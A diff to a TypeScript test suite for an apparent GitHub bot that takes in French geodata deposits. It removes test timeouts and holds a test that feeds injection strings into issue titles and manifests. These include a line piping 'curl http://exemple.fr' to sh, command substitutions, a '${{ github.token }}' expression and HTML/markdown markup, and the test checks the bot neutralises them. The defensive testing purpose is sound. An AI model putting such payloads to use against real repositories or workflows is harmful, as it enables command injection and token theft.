@@ -44,7 +44,7 @@ async function answers(number: number): Promise<string[]> {
 const pulls = (): Repository['issues'] => repository.issues.filter(({ pull }) => pull !== undefined);
 const openPulls = (): string[] => pulls().flatMap(({ state, title }) => (state === 'open' ? [plain(title)] : []));
 
-test('a new producer sends data, is refused in French, mends them, is accepted, changes its mind twice', { timeout: 600_000 }, async () => {
+test('a new producer sends data, is refused in French, mends them, is accepted, changes its mind twice', async () => {
   const number = await send('mairie', deposit({ 'vion/mats/dataset.yaml': manifest().replace('annual', 'annuelle') }));
   const [refusal, ...others] = await answers(number);
   expect(others).toEqual([]);
@@ -84,7 +84,7 @@ test('a new producer sends data, is refused in French, mends them, is accepted, 
   expect([...(await repository.git.branches()).keys()]).toEqual(['main']);
 });
 
-test('what is published is updated by its new file alone, renamed, and withdrawn', { timeout: 600_000 }, async () => {
+test('what is published is updated by its new file alone, renamed, and withdrawn', async () => {
   const first = await send('mairie', deposit());
   await answers(first);
   const merge = async (): Promise<void> => {
@@ -139,37 +139,33 @@ test('what is published is updated by its new file alone, renamed, and withdrawn
   expect((await answers(again))[0]).toMatch(/« vion\/eoliennes » est déjà retiré du catalogue/);
 });
 
-test(
-  'texts of an issue are never program, mention or markup of ours, and what is no deposit is answered or left alone',
-  { timeout: 600_000 },
-  async () => {
-    const title = '"; curl http://exemple.fr | sh #$(id) `id` ${{ github.token }} @mappe-geo <script>';
-    const hostile = {
-      by: 'inconnu',
-      title,
-      fields: { donnees: title, zip: `${title}\nhttps://exemple.fr/user-attachments/files/1/a.zip` },
-    };
-    const number = await github.openByForm(repository, 'publier', hostile);
-    const [answer = '', ...others] = await answers(number);
-    expect([others, answer]).toEqual([[], expect.stringMatching(/Il manque le fichier : glissez dans un commentaire le zip/)]);
-    expect(answer).not.toMatch(/curl|@mappe-geo|<script/);
-    // A title of a manifest reaches a request as text.
-    const named = await send(
-      'inconnu',
-      deposit({ 'vion/mats/dataset.yaml': manifest().replace('Mâts d’éoliennes', "'Mâts @mappe-geo <img src=x> [x](http://exemple.fr)'") }),
-    );
-    await answers(named);
-    const pull = pulls().find(({ state }) => state === 'open');
-    expect(pull?.body).not.toMatch(/@mappe-geo|<img|\]\(http:\/\/exemple/);
-    const plainIssue = await github.as('inconnu', 'issues/create', {
-      repository: 'mappe-geo/mappe',
-      body: { title: 'Bonjour', body: zipOf(deposit()), labels: ['depot'] },
-    });
-    await github.settled();
-    // The label of a form is nobody's to give.
-    expect(repository.issues.find((each) => each.number === (plainIssue as { number: number }).number)).toMatchObject({
-      labels: [],
-      comments: [],
-    });
-  },
-);
+test('texts of an issue are never program, mention or markup of ours, and what is no deposit is answered or left alone', async () => {
+  const title = '"; curl http://exemple.fr | sh #$(id) `id` ${{ github.token }} @mappe-geo <script>';
+  const hostile = {
+    by: 'inconnu',
+    title,
+    fields: { donnees: title, zip: `${title}\nhttps://exemple.fr/user-attachments/files/1/a.zip` },
+  };
+  const number = await github.openByForm(repository, 'publier', hostile);
+  const [answer = '', ...others] = await answers(number);
+  expect([others, answer]).toEqual([[], expect.stringMatching(/Il manque le fichier : glissez dans un commentaire le zip/)]);
+  expect(answer).not.toMatch(/curl|@mappe-geo|<script/);
+  // A title of a manifest reaches a request as text.
+  const named = await send(
+    'inconnu',
+    deposit({ 'vion/mats/dataset.yaml': manifest().replace('Mâts d’éoliennes', "'Mâts @mappe-geo <img src=x> [x](http://exemple.fr)'") }),
+  );
+  await answers(named);
+  const pull = pulls().find(({ state }) => state === 'open');
+  expect(pull?.body).not.toMatch(/@mappe-geo|<img|\]\(http:\/\/exemple/);
+  const plainIssue = await github.as('inconnu', 'issues/create', {
+    repository: 'mappe-geo/mappe',
+    body: { title: 'Bonjour', body: zipOf(deposit()), labels: ['depot'] },
+  });
+  await github.settled();
+  // The label of a form is nobody's to give.
+  expect(repository.issues.find((each) => each.number === (plainIssue as { number: number }).number)).toMatchObject({
+    labels: [],
+    comments: [],
+  });
+});
